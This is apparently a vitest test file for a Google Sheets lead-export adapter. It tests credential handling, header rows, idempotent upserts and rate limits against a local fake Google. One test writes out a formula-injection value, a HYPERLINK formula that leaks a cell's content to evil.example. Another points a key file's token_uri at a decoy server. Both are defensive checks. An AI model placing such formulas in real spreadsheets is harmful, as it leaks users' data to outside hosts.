// The Google Sheets adapter against a local Google (tests/support/crm-fakes/sheets.ts): the service account's token
// asked of our token endpoint only, the header row written once, rows found again by any alias (append is not
// idempotent), fill_empty cells a user typed kept, RAW writes, 429 Retry-After, and the reasons a user can act on.
import crypto from 'node:crypto'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { apiLead, type LeadShape } from '#tests/support/crm-leads.ts'
import { CRM_FIELDS, DEFAULT_CRM_MAPPING, toCrmRecord, type CrmRecord } from '#app/domain/crm.ts'
import { createCrmHttp, CrmAuthError, CrmUnavailableError } from '#app/.server/integrations/crm-http.ts'
import { sheets } from '#app/.server/integrations/providers/sheets.ts'
import type { ConnectionSettings, CrmAdapter } from '#app/.server/integrations/providers/types.ts'
import { startFakeGoogle, type FakeGoogle } from '#tests/support/crm-fakes/sheets.ts'

const CLIENT_EMAIL = 'leadatlas-push@leadatlas-test.iam.gserviceaccount.com'
const HEADER_WIDTH = CRM_FIELDS.length + 2
const column = (label: string) => fake.rows[0]!.indexOf(label)

let keys: { publicKey: string; privateKey: string }
let fake: FakeGoogle
let adapter: CrmAdapter
let settings: ConnectionSettings

function serviceAccount(overrides: Record<string, string> = {}, privateKey = keys.privateKey): string {
  return JSON.stringify({
    type: 'service_account',
    project_id: 'leadatlas-test',
    private_key_id: 'a1b2c3',
    private_key: privateKey,
    client_email: CLIENT_EMAIL,
    client_id: '100000000000000000001',
    token_uri: 'https://oauth2.googleapis.com/token',
    ...overrides,
  })
}

function connect(secret = serviceAccount(), maxWaitMs?: number): CrmAdapter {
  return sheets.create({
    secret,
    baseUrl: fake.url,
    tokenUrl: fake.url + '/token',
    http: (headers) => createCrmHttp({ baseUrl: fake.url, headers, limitKey: 'test', budgets: sheets.budgets, account: 'w1', limits: null, retryBaseDelayMs: 10, ...(maxWaitMs ? { maxWaitMs } : {}) }),
  })
}

const record = (shape: LeadShape = {}): CrmRecord => toCrmRecord(apiLead(shape))
const again = (records: CrmRecord[], results: { remoteId: string | null }[]) => records.map((one, index) => ({ ...one, remoteId: results[index]!.remoteId }))
const count = (results: { outcome: string }[], outcome: string) => results.filter((result) => result.outcome === outcome).length
const writes = () => fake.requests.filter((request) => request.method !== 'GET' && request.path !== '/token')
const anna = () => record({ id: '0b9f1d3e-5c2a-4e8b-9f10-3a4b5c6d7e8f', name: 'Fleurs Anna', website: 'https://fleurs-anna.fr', emails: ['anna@fleurs-anna.fr'] })

beforeAll(() => {
  keys = crypto.generateKeyPairSync('rsa', { modulusLength: 2048, publicKeyEncoding: { type: 'spki', format: 'pem' }, privateKeyEncoding: { type: 'pkcs8', format: 'pem' } })
})

beforeEach(async () => {
  fake = await startFakeGoogle({ clientEmail: CLIENT_EMAIL, publicKeyPem: keys.publicKey })
  adapter = connect()
  settings = await adapter.prepare({ spreadsheetId: fake.spreadsheetId })
})

afterEach(async () => {
  await fake.close()
})

describe('Sheets: credentials', () => {
  it('checkSecret reads a service-account key and refuses anything else', () => {
    expect(sheets.checkSecret(serviceAccount())).toBeNull()
    expect(sheets.checkSecret(serviceAccount({ type: 'authorized_user' }))).toBe('invalid_secret')
    expect(sheets.checkSecret(serviceAccount({}, 'not a key'))).toBe('invalid_secret')
    expect(sheets.checkSecret('{')).toBe('invalid_secret')
  })

  it('test() names the spreadsheet; a URL works as well as an id', async () => {
    await expect(adapter.test({ spreadsheetId: fake.spreadsheetId })).resolves.toEqual({ ok: true, account: 'Prospects LeadAtlas' })
    await expect(adapter.test({ spreadsheetId: `https://docs.google.com/spreadsheets/d/${fake.spreadsheetId}/edit#gid=0` })).resolves.toEqual({ ok: true, account: 'Prospects LeadAtlas' })
  })

  it('a spreadsheet not shared with the service account: test() says to share it with its email', async () => {
    fake.sharedWith.clear()
    const outcome = await adapter.test({ spreadsheetId: fake.spreadsheetId })
    expect(outcome.ok).toBe(false)
    expect(!outcome.ok && outcome.reason).toContain(CLIENT_EMAIL)
    expect(!outcome.ok && outcome.reason).toContain('The caller does not have permission')
  })

  it('no spreadsheet: test() and prepare() say so', async () => {
    await expect(adapter.test({})).resolves.toEqual({ ok: false, reason: expect.stringMatching(/^spreadsheet_missing/) })
    await expect(adapter.prepare({})).rejects.toThrow(/spreadsheet_missing/)
  })

  it('a key Google does not know: test() is not ok and upsert throws CrmAuthError', async () => {
    const other = crypto.generateKeyPairSync('rsa', { modulusLength: 2048, privateKeyEncoding: { type: 'pkcs8', format: 'pem' }, publicKeyEncoding: { type: 'spki', format: 'pem' } })
    const wrong = connect(serviceAccount({}, other.privateKey))
    await expect(wrong.test(settings)).resolves.toEqual({ ok: false, reason: `Google refused the service account ${CLIENT_EMAIL}: Invalid JWT Signature.` })
    await expect(wrong.upsert([record()], DEFAULT_CRM_MAPPING, settings)).rejects.toBeInstanceOf(CrmAuthError)
  })

  it('the key file’s token_uri is never used: the token is asked of our token endpoint', async () => {
    let decoyHits = 0
    const decoy = http.createServer((_request, response) => {
      decoyHits++
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"access_token":"stolen","expires_in":3600}')
    })
    await new Promise<void>((resolve) => decoy.listen(0, '127.0.0.1', resolve))
    try {
      const tokensBefore = fake.tokenRequests()
      const pointed = connect(serviceAccount({ token_uri: `http://127.0.0.1:${(decoy.address() as AddressInfo).port}/token` }))
      await expect(pointed.test(settings)).resolves.toMatchObject({ ok: true })
      expect(decoyHits).toBe(0)
      expect(fake.tokenRequests()).toBe(tokensBefore + 1)
    } finally {
      await new Promise<void>((resolve) => decoy.close(() => resolve()))
    }
  })

  it('the token is reused across calls, and replaced once when Google stops accepting it', async () => {
    const fresh = connect()
    await fresh.test(settings)
    await fresh.upsert([record()], DEFAULT_CRM_MAPPING, settings)
    const asked = fake.tokenRequests()
    await fresh.upsert([record()], DEFAULT_CRM_MAPPING, settings)
    expect(fake.tokenRequests()).toBe(asked)
    fake.revokeTokens()
    await expect(fresh.upsert([record({ name: 'Paul renamed' })], DEFAULT_CRM_MAPPING, settings)).resolves.toMatchObject([{ outcome: 'updated' }])
    expect(fake.tokenRequests()).toBe(asked + 1)
  })
})

describe('Sheets: the header row', () => {
  it('is written once, on the first tab, and prepare says which tab', async () => {
    expect(settings).toEqual({ spreadsheetId: fake.spreadsheetId, sheetName: 'Feuille 1' })
    expect(fake.rows[0]).toHaveLength(HEADER_WIDTH)
    expect(fake.rows[0]!.slice(0, 3)).toEqual(['LeadAtlas key', 'Name', 'Address'])
    expect(fake.rows[0]!.at(-1)).toBe('Emails')
    const written = writes().length
    await adapter.prepare(settings)
    await adapter.upsert([record()], DEFAULT_CRM_MAPPING, settings)
    expect(writes().filter((request) => request.method === 'PUT')).toHaveLength(1)
    expect(writes().length).toBe(written + 1)
  })

  it('a column removed from the header is added back at the end, the others stay where they are', async () => {
    fake.rows[0]!.splice(column('Rating'), 1)
    const phone = column('Phone')
    await adapter.prepare(settings)
    expect(column('Phone')).toBe(phone)
    expect(fake.rows[0]!.at(-1)).toBe('Rating')
  })

  it('a tab whose row 1 is not ours is refused, not written over', async () => {
    fake.rows[0]!.splice(0, fake.rows[0]!.length, 'Client', 'Téléphone')
    await expect(adapter.prepare(settings)).rejects.toThrow(/not a LeadAtlas header/)
    expect(fake.rows[0]).toEqual(['Client', 'Téléphone'])
  })
})

describe('Sheets: rows', () => {
  it('pushing twice writes each business once; the second push creates nothing', async () => {
    const records = [record(), anna()]
    const first = await adapter.upsert(records, DEFAULT_CRM_MAPPING, settings)
    expect(first.map((result) => [result.outcome, result.remoteId])).toEqual([
      ['created', 'domain:boulangerie-paul.fr'],
      ['created', 'domain:fleurs-anna.fr'],
    ])
    expect(fake.rows).toHaveLength(3)
    expect(fake.rows[1]![column('Name')]).toBe('Boulangerie Paul')
    expect(fake.rows[1]![column('Emails')]).toBe('contact@boulangerie-paul.fr')
    const second = await adapter.upsert(again(records, first), DEFAULT_CRM_MAPPING, settings)
    expect(second.map((result) => result.outcome)).toEqual(['skipped', 'skipped'])
    expect(fake.rows).toHaveLength(3)
    // Nothing changed: no write at all on the second push.
    expect(fake.requests.at(-1)!.method).toBe('GET')
  })

  it('one append for every new row and one batchUpdate for every changed one', async () => {
    const records = Array.from({ length: 40 }, (_, index) => record({ id: crypto.randomUUID(), name: `Commerce ${index}`, website: `https://commerce-${index}.fr` }))
    await adapter.upsert(records, DEFAULT_CRM_MAPPING, settings)
    const renamed = records.map((one, index) => (index % 2 ? { ...one, company: { ...one.company, name: `Commerce ${index} bis` } } : one))
    const results = await adapter.upsert(renamed, DEFAULT_CRM_MAPPING, settings)
    expect([count(results, 'updated'), count(results, 'skipped')]).toEqual([20, 20])
    expect(fake.rows).toHaveLength(41)
    expect(writes().map((request) => request.path.split('/values')[1])).toEqual([expect.stringMatching(/^\/.*A1$/), expect.stringMatching(/:append$/), ':batchUpdate'])
  })

  it('changed values are updated in place, cells nobody changed are not rewritten', async () => {
    const first = await adapter.upsert([record()], DEFAULT_CRM_MAPPING, settings)
    fake.rows[1]!.push('', 'note typed by a salesperson')
    const next = await adapter.upsert(again([record({ name: 'Boulangerie Paul & Fils' })], first), DEFAULT_CRM_MAPPING, settings)
    expect(next[0]).toMatchObject({ outcome: 'updated', remoteId: 'domain:boulangerie-paul.fr' })
    expect(fake.rows[1]![column('Name')]).toBe('Boulangerie Paul & Fils')
    expect(fake.rows[1]!.at(-1)).toBe('note typed by a salesperson')
    const update = writes().at(-1)!
    expect(update.body.data).toEqual([{ range: `'Feuille 1'!B2:B2`, majorDimension: 'ROWS', values: [['Boulangerie Paul & Fils']] }])
  })

  it('a fill_empty cell a user typed is kept; an emptied one is filled again; emails typed are kept', async () => {
    const first = await adapter.upsert([record()], DEFAULT_CRM_MAPPING, settings)
    fake.rows[1]![column('Phone')] = '06 11 22 33 44 (Marie)'
    fake.rows[1]![column('Website')] = ''
    fake.rows[1]![column('Emails')] = 'marie@boulangerie-paul.fr, contact@boulangerie-paul.fr'
    const next = await adapter.upsert(again([record({ phone: '+33999999999', emails: ['contact@boulangerie-paul.fr', 'paul@boulangerie-paul.fr'] })], first), DEFAULT_CRM_MAPPING, settings)
    expect(next[0]!.outcome).toBe('updated')
    expect(fake.rows[1]![column('Phone')]).toBe('06 11 22 33 44 (Marie)')
    expect(fake.rows[1]![column('Website')]).toBe('https://boulangerie-paul.fr')
    expect(fake.rows[1]![column('Emails')]).toBe('marie@boulangerie-paul.fr, contact@boulangerie-paul.fr, paul@boulangerie-paul.fr')
  })

  it('a row keyed domain:… is found by the same business now known by its SIRET', async () => {
    await adapter.upsert([record()], DEFAULT_CRM_MAPPING, settings)
    // A later export with registry data, and no remote id stored (another export, another push).
    const next = await adapter.upsert([record({ siret: '55210055400013' })], DEFAULT_CRM_MAPPING, settings)
    expect(next[0]).toMatchObject({ outcome: 'updated', remoteId: 'domain:boulangerie-paul.fr' })
    expect(fake.rows).toHaveLength(2)
    expect(fake.rows[1]![0]).toBe('domain:boulangerie-paul.fr')
    expect(fake.rows[1]![column('SIRET')]).toBe('55210055400013')
  })

  it('two leads of one business in a batch make one row', async () => {
    const results = await adapter.upsert([record(), record({ id: crypto.randomUUID(), siret: '55210055400013' })], DEFAULT_CRM_MAPPING, settings)
    expect(results.map((result) => result.outcome)).toEqual(['created', 'updated'])
    expect(fake.rows).toHaveLength(2)
  })

  it('values are written RAW: a name starting with = stays the literal text, a phone keeps its +', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Boulangerie")'
    await adapter.upsert([record({ name: formula, phone: '+33123456789' })], DEFAULT_CRM_MAPPING, settings)
    expect(fake.rows[1]![column('Name')]).toBe(formula)
    expect(fake.rows[1]![column('Phone')]).toBe('+33123456789')
  })

  it('a tab name with spaces and a quote is quoted and encoded in every range', async () => {
    await fake.close()
    fake = await startFakeGoogle({ clientEmail: CLIENT_EMAIL, publicKeyPem: keys.publicKey, sheetTitle: "Leads d'Émile & co" })
    adapter = connect()
    settings = await adapter.prepare({ spreadsheetId: fake.spreadsheetId })
    expect(settings.sheetName).toBe("Leads d'Émile & co")
    const first = await adapter.upsert([record(), anna()], DEFAULT_CRM_MAPPING, settings)
    const second = await adapter.upsert(again([record({ name: 'Paul' }), anna()], first), DEFAULT_CRM_MAPPING, settings)
    expect(second.map((result) => result.outcome)).toEqual(['updated', 'skipped'])
    expect(fake.rows).toHaveLength(3)
    expect(fake.requests.every((request) => request.status === 200)).toBe(true)
  })

  it('a 429 is waited for as long as its Retry-After says, then the push goes on', async () => {
    const quota = { error: { code: 429, message: "Quota exceeded for quota metric 'Write requests'", status: 'RESOURCE_EXHAUSTED' } }
    const started = Date.now()
    fake.failNext(429, quota, { 'retry-after': '1' })
    const results = await adapter.upsert([record()], DEFAULT_CRM_MAPPING, settings)
    expect(Date.now() - started).toBeGreaterThanOrEqual(950)
    expect(results[0]!.outcome).toBe('created')
    expect(fake.rows).toHaveLength(2)
  })

  it('over the write rate: 429 RESOURCE_EXHAUSTED, and a Retry-After longer than the client waits leaves the batch to the job', async () => {
    await fake.close()
    fake = await startFakeGoogle({ clientEmail: CLIENT_EMAIL, publicKeyPem: keys.publicKey, writesPerMinute: 1 })
    adapter = connect(serviceAccount(), 5_000)
    // prepare's header write is the minute's one write.
    settings = await adapter.prepare({ spreadsheetId: fake.spreadsheetId })
    const error = await adapter.upsert([record()], DEFAULT_CRM_MAPPING, settings).catch((caught: unknown) => caught)
    expect(error).toBeInstanceOf(CrmUnavailableError)
    expect(error).toMatchObject({ message: 'rate_limited' })
    // The fake's Retry-After: until its one write of the minute leaves the window.
    expect((error as CrmUnavailableError).retryAfterMs).toBeGreaterThan(50_000)
    const refused = fake.requests.find((request) => request.status === 429)!
    expect(refused.method).toBe('POST')
    expect(fake.rows).toHaveLength(1)
  })

  it('a write Google refuses fails the rows it carried', async () => {
    fake.failNext(400, { error: { code: 400, message: 'Invalid values[1][0]: list_value', status: 'INVALID_ARGUMENT' } })
    // The first call of an upsert is the read of row 1 and column A: refused, every row of the batch fails.
    const results = await adapter.upsert([record(), anna()], DEFAULT_CRM_MAPPING, settings)
    expect(results.map((result) => [result.outcome, result.reason])).toEqual([
      ['failed', 'Invalid values[1][0]: list_value'],
      ['failed', 'Invalid values[1][0]: list_value'],
    ])
    expect(fake.rows).toHaveLength(1)
  })
})
